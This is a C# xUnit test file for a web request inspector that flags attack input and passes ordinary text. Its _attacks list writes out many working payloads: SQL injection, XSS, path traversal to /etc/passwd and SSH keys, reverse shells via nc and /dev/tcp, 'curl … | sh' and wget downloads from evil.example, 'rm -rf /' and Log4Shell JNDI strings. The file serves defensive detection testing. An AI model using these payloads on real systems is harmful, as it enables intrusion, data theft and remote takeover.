using Larder.AspNetCore.Inspection;
using Xunit;

namespace Larder.AspNetCore.Tests.Inspection;

/// <summary>What is an attack is found, what only sounds like one is not. A larger body of whole requests stands in Corpus.</summary>
public sealed class InputRulesTests
{
    private static readonly InputRules _rules = new(useDefaultRules: true, []);

    private static readonly string[] _attacks =
    [
        "1 UNION SELECT username, password FROM users--", "' UNION ALL SELECT NULL,NULL,NULL--", "1+union+select+1,2,3", "-1 UNION/**/SELECT 1,@@version,3", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
        "/users/union select * from users", "1%20union%20select%20*%20from%20users", "UNION(SELECT(1),version())", "' union select load_file('/etc/passwd')#", "x' union distinct select a from b",
        "1; DROP TABLE users", "'; DROP TABLE users;--", "1); DELETE FROM orders", "'; INSERT INTO admins VALUES ('x')", "1;UPDATE users SET role='admin'", "'; EXEC xp_cmdshell 'dir'", "1;SELECT pg_sleep(5)",
        "admin; DROP TABLE users--", "1;TRUNCATE TABLE logs", "1; SHUTDOWN;", "'; exec master..xp_cmdshell 'ping x'",
        "1' OR '1'='1", "' OR 1=1--", "1 OR 1=1", "\" or \"a\"=\"a", "' or ''='", "admin' or '1'='1'#", "1) or (1=1", "' OR 'x' LIKE 'x", "1 AND 4727=4727", "' AND 1=2", "' or true--", "1'||'1'='1", "x' or 1=1 or 'x'='y",
        "1%27%20OR%20%271%27=%271", "1%2527 OR %25271%2527=%25271", "1/**/or/**/1=1", "' OR NOT 1=2", "1 having 1=1", "' and exists(select 1)", "1' ORDER BY 3--", "1) order by 10#",
        "admin'--", "admin' #", "admin'/*", "x';--", "\"--",
        "1 AND SLEEP(5)", "'; WAITFOR DELAY '0:0:5'--", "1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)", "' || pg_sleep(5)--", "1 or benchmark(10000000,MD5(1))", "'+sleep(5)+'", "1' AND IF(1=1,SLEEP(5),0)", "(select(0)from(select(sleep(5)))v)",
        "1 and extractvalue(1,concat(0x7e,version()))", "x' into outfile '/var/www/a.php", "load_file('/etc/passwd')",
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "\"><script>alert(document.cookie)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "<script/x>", "< script >", "</script><svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<body onload=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus=alert(1) autofocus='", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
        "javascript:alert(1)", "JaVaScRiPt:alert(document.domain)", "java\tscript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)", "<iframe src=\"//evil.example\">", "<iframe srcdoc='x'>", "<object data=\"x.swf\">", "<embed src=x>", "<base href=//evil.example>",
        "data:text/html,<b>x", "data:text/html;base64,PHNjcmlwdD4=", "<meta http-equiv=refresh content=0>",
        "../../etc/passwd", "../../../../etc/shadow", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "....//....//etc/passwd", "..;/..;/manager", "/static/../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "../.env", "images/../../../.ssh/id_rsa", "/proc/self/environ", "c:\\windows\\system32", "x.png\0.php", "x.png%00.php", "../WEB-INF/web.xml", "expect://id", "..%5c..%5cwindows%5cwin.ini",
        "; cat /etc/passwd", "| cat /etc/passwd", "x; ls -la", "127.0.0.1 && whoami", "127.0.0.1|whoami", "`whoami`", "$(whoami)", "$(curl http://evil.example)", "; wget http://evil.example/x.sh", "| nc -e /bin/sh 10.0.0.1 4444", "; rm -rf /", "&& ping -c 10 127.0.0.1",
        "; sleep 10", "|| ping 127.0.0.1", "x\ncat /etc/passwd", ";cat${IFS}/etc/passwd", "cat$IFS/etc/passwd", "() { :;}; echo vulnerable", "bash -i >& /dev/tcp/10.0.0.1/4444", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}", "$(id)", "; id;", "| powershell -enc AAAA", "; curl -s https://evil.example | sh", "%3B%20cat%20%2Fetc%2Fpasswd",
    ];

    private static readonly string[] _ordinary =
    [
        "", "42", "alice", "/", "/api/users/17", "/index.html", "/products/1+1", "O'Brien", "D'Angelo & Sons", "rock 'n' roll", "Dwayne \"The Rock\" Johnson", "it's 5 o'clock", "l'été à l'ombre", "qu'est-ce que c'est ?", "select a union representative",
        "credit union select committee report", "how to join a union and select a delegate", "student union select president, treasurer and secretary", "Western Union select location", "European Union selected laws", "drop table decorations", "table; chairs; lamps", "update your address; insert coin", "delete from cart", "1; create user account",
        "season 5; update firmware", "SELECT * FROM users WHERE id = 1", "select name from users where name = 'x' and age = 5", "how to use order by 1 desc", "order by price -- cheapest first", "INSERT INTO t VALUES (1, 2)", "sql union all example", "what is union select in sql", "CREATE TABLE a (id int); INSERT INTO a VALUES (1)", "1 or 2 bedrooms", "2 and 2 = 4 orwell",
        "x = 1 or y = 2", "status = 'open' and priority = 'high'", "project = \"A\" AND \"Epic Link\" = \"A-1\" or status = Done", "name eq 'Bob' or price lt 10", "$filter=Name eq 'O''Brien' and Age gt 5", "contains(Name,'x') and Price ge 3.5", "(a or b) and c = 3", "cats and dogs = love", "true or false", "R&B || Soul", "a && b", "c++ -- decrement", "he said 'yes' -- then left", "C# or F#", "the dogs' bone", "#hashtag",
        "Thread.sleep(1000)", "time.sleep(5)", "await sleep(100), then", "foo(1, sleep(5))", "pg_sleep(5) postgres", "sleep (disorder) benchmark (cpu)", "waitfor delay t-sql", "do I and sleep (8 hours)",
        "a < b and b > c", "x<y", "List<string>", "Dictionary<string, List<int>> onChange", "price <100 and >50", "<3 hearts", "i <3 u", "<b>bold</b>", "<div class=\"x\">text</div>", "<p>hello</p>", "<br/>", "javascript", "javascript: the good parts", "javascript promises (part 2)", "typescript: enum or union", "description: what is a script", "a script for a play", "onboarding = done", "on error = retry", "what does onclick do",
        "javascript:void(0)", "online=true", "ons = 3", "<anonymous> on line = 4", "meta charset utf-8", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
        "../images/logo.png", "import x from '../../components/Button'", "./a/../b", "/docs/../guide", "1..10", "wait... what", "...and justice for all", "C:\\Users\\me\\file.txt", "/etc/hosts format", "what is /etc/passwd", "etc/ and so on", "https://example.com/a/b?x=1&y=2#z", "https%3A%2F%2Fexample.com%2Fcb%3Fstate%3Dabc%26code%3D123", "file name.pdf", "100%", "50% off", "100%25 cotton", "%E6%97%A5%E6%9C%AC", "windows 11 or linux", "root vegetables",
        "cats; dogs; birds", "cat | dog | bird", "python | perl | ruby", "R&D; M&A; P&L", "name|id|title", "info|pageprops|ids", "id;name;age", "rock; roll & jazz", "how to cat a file in bash", "curl vs wget", "git add . && git commit", "echo and the bunnymen", "ping pong; tennis", "sleep; eat; repeat", "type; host; kind", "$100 (approx.)", "$(document).ready", "${name}", "{\"a\":[1,2,{\"b\":\"c;d|e\"}],\"q\":\"it's\"}", "[{\"field\":\"x\",\"op\":\"=\",\"value\":\"1\"}]", "{ user(id: 1) { name, posts(first: 10) { title } } }", "query Q($id: ID!) { node(id: $id) { id } }",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", "dGhlIHF1aWNrIGJyb3duIGZveA==", "Zm9v+YmFy/YmF6==", "2026-01-01T10:00:00+02:00", "48.8566,2.3522", "W/\"abc-123\"", "no-cache, max-age=0", "for=192.0.2.60;proto=http;by=203.0.113.43", "text/html; charset=utf-8", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "東京 ラーメン おすすめ", "как выбрать ноутбук; отзывы", "מתכון לעוגת שוקולד", "أفضل المطاعم في دبي", "여름 휴가 추천", "ราคาทองวันนี้", "¿cómo se dice \"select\" en español?", "günstige flüge nach köln", "l'union européenne et l'OR", "prix < 100 € et > 50 €", "naïve café", "😀 or 😢 = ?", "1 < 2 and 2 < 3", "Müller's \"Bäckerei\" -- Öffnungszeiten", "x'y", "'quoted'", "''", "\"\"", "5' 10\" tall", "'tis #1", "5\" pipe -- steel",
        "https://www.google.com/search?q=union+select+jobs&hl=en", "https://shop.example/products?color=red&brand=x&sort=price%20asc", "https://example.com/?q=what%27s+new+or+hot", "id,name,email", "-created_at", "sort=-date&filter[status]=open", "a=1&b=2&c=3", "(select one)", "please select from the list", "grant applications 2024; grants", "user = me or owner = me", "exec summary; declare income", "shutdown; restart", "windows 10; shutdown button", "1 = 1", "where 1=1",
    ];

    [Fact]
    public void Attacks_are_found() => Assert.Equal("", string.Join("\n", _attacks.Where(text => _rules.Find(text) is null)));

    [Fact]
    public void Ordinary_text_passes() =>
        Assert.Equal("", string.Join("\n", _ordinary.Where(text => _rules.Find(text) is not null).Select(text => $"{_rules.Find(text)}: {text}")));

    [Fact]
    public void Words_that_are_searched_first_hide_no_match()
    {
        IEnumerable<string> texts = _attacks.Concat(_ordinary).SelectMany(text => new[] { text, text.ToUpperInvariant(), Uri.UnescapeDataString(text), $"a {text} b", $"{text}{text}" });
        foreach (string text in texts)
        {
            foreach (Rule rule in InputRules.Default.Where(rule => rule.MatchesWithoutWords(text)))
            {
                Assert.True(rule.Matches(text), $"{rule.Name} overlooks: {text}");
                Assert.True(_rules.Find(text) is not null, $"the signs overlook: {text}");
            }
        }
    }

    [Fact]
    public void Words_that_are_searched_first_hide_no_match_of_random_text()
    {
        string[] parts =
        [
            "union", "select", " ", "'", "\"", "or", "and", "1", "=", "--", ";", "drop", "table", "(", ")", "/**/", "sleep", "from", "users", ",", "<", "script", ">", "onload", "javascript", ":", "alert", "..", "/", "\\", "etc/passwd",
            "|", "&", "cat", "-la", "$(", "`", "whoami", "#", "*", "order", "by", "%27", "%2e", "\t", "\n", "null", "+", "ifs", "${", "jndi", "/dev/tcp/", "/bin/sh", "2", "x",
        ];
        const int Seed = 20260101;
        var random = new Random(Seed);
        int matches = 0;
        for (int i = 0; i < 40_000; i++)
        {
            string text = string.Concat(Enumerable.Range(0, random.Next(2, 20)).Select(_ => parts[random.Next(parts.Length)]));
            foreach (Rule rule in InputRules.Default.Where(rule => rule.MatchesWithoutWords(text)))
            {
                matches++;
                Assert.True(rule.Matches(text), $"{rule.Name} overlooks (seed {Seed}): {text}");
                Assert.True(_rules.Find(text) is not null, $"the signs overlook (seed {Seed}): {text}");
            }
        }

        Assert.True(matches > 250, $"only {matches} of the texts were matched at all");
    }

    [Fact]
    public void Every_rule_finds_at_least_one_of_the_attacks()
    {
        string?[] found = [.. _attacks.Select(_rules.Find).Distinct()];
        Assert.Empty(InputRules.Default.Select(rule => rule.Name).Except(found));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("0")]
    [InlineData("-1.5e10")]
    public void Null_empty_and_numbers_never_match(string? text) => Assert.Null(_rules.Find(text));

    [Fact]
    public void Text_of_any_length_takes_time_in_proportion_to_it()
    {
        // What makes an expression that backtracks run for ever: here it ends, within the time a stuck test is given.
        foreach (string repeated in new[] { "<a ", "/**/", "../", "union ", "' or ", "; ", "((((", "%2525", "a'" })
        {
            _rules.Find(string.Concat(Enumerable.Repeat(repeated, 20_000)));
        }
    }

    [Fact]
    public void Patterns_of_ones_own_replace_or_join_the_rules()
    {
        var own = new InputRules(useDefaultRules: false, ["secret[0-9]+"]);
        Assert.NotNull(own.Find("SECRET42"));
        Assert.NotNull(own.Find("secret%34%32"));
        Assert.Null(own.Find("1' OR '1'='1"));
        var both = new InputRules(useDefaultRules: true, ["secret[0-9]+"]);
        Assert.NotNull(both.Find("secret42"));
        Assert.NotNull(both.Find("1' OR '1'='1"));
    }
}
